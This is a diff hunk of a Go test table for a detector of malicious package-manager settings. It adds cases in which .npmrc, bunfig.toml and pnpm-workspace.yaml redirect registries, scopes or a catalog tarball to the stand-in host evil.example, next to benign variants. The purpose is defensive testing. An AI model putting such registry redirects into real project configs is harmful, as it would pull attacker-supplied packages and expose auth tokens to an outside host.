@@ -68,6 +68,14 @@ func TestSettingsOfTheProject(t *testing.T) {
 				"@corp:registry=https://corp.example/\n//corp.example/:_authToken=${API_TOKEN}", "# registry=https://evil.example/${API_TOKEN}/", "save-exact=true",
 			},
 		},
+		{
+			[]string{"npm ci", "npm install", "pnpm install", "bun install"},
+			".npmrc",
+			[]string{"registry=https://evil.example/", "@corp:registry=https://evil.example/", "a=1\n@corp:registry = \"http://evil.example\""},
+			[]string{"", "save-exact=true", "# @corp:registry=https://evil.example/", "//usual.example/:_authToken=${UNSET_TOKEN}"},
+		},
+		{[]string{"bun install"}, "bunfig.toml", []string{"[install.scopes]\n\"@corp\" = \"https://evil.example\"", "[install.scopes]\n'@corp' = { url = \"https://evil.example\" }"}, []string{"[install]\nproduction = true"}},
+		{[]string{"pnpm install"}, "pnpm-workspace.yaml", []string{"catalog:\n  \"@corp/a\": https://evil.example/a.tgz"}, []string{"packages:\n  - a\ncatalog:\n  \"@corp/a\": ^1.0.0"}},
 		{[]string{"yarn npm info x", "yarn npm audit"}, ".yarnrc.yml", []string{"npmRegistryServer: \"https://evil.example\"\nnpmAuthToken: \"${API_TOKEN}\""}, []string{"npmAuthToken: \"${API_TOKEN}\"", "npmRegistryServer: \"https://corp.example\""}},
 		{
 			[]string{"npm pack", "pnpm pack", "yarn pack"},
